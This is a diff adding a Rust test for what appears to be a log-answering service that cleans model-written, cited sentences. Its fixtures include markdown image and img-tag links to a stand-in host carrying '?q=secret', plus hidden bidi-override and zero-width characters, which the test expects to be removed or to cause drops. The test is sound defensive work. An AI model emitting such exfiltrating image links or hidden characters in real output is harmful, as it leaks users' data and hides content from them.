@@ -224,3 +224,30 @@ async fn what_cannot_be_asked_is_refused_by_its_field() {
         assert!(field == expect && !hint.is_empty(), "{field}");
     }
 }
+
+#[tokio::test]
+async fn what_a_model_adds_to_its_words_is_taken_out_and_hidden_signs_are_no_quotation() {
+    let hostile = "orders: no free connection\u{202e} after 3 s, see https://bait.test/p";
+    let quote = "no free connection after 3 s";
+    let sentences = json!([
+        sentence("Full. ![x](https://evil.test/?q=secret)", "P1", quote),
+        sentence("<img src=//evil.test/x>\u{200b}It waits.", "P1", "no free\n connection after 3 s"),
+        sentence("As told at https://bait.test/p", "P1", quote),
+        sentence("\u{202e}\u{200b}", "P1", quote),
+        sentence("It is DNS.", "P1", "no free connection\u{202e} after 3 s"),
+    ]);
+    let bench = Bench::scripted([says(true, sentences)]);
+    let lines = vec![line(hostile.to_owned())];
+    bench.features.logs().ingest(&bench.scope, lines).await.expect("kept");
+    bench.retrieval.settled(&bench.scope).await.expect("caught up");
+    let (answer, _) =
+        ask(&bench, AskRequest::new("why is there no free connection?")).await.expect("an answer");
+    let texts: Vec<&str> = answer.sentences.iter().map(|sentence| sentence.text.as_str()).collect();
+    let expect =
+        ["Full. [x] [link removed]", "img src=[link removed] waits.", "As told at https://bait.test/p"];
+    assert_eq!(texts, expect);
+    assert_eq!((answer.dropped_citations, answer.dropped_sentences), (1, 2));
+    assert!(answer.sentences.iter().all(|sentence| sentence.citations[0].quote == quote));
+    let whole = serde_json::to_string(&answer).expect("JSON");
+    assert!(!whole.contains("evil") && !whole.contains(['\u{202e}', '\u{200b}']), "{whole}");
+}
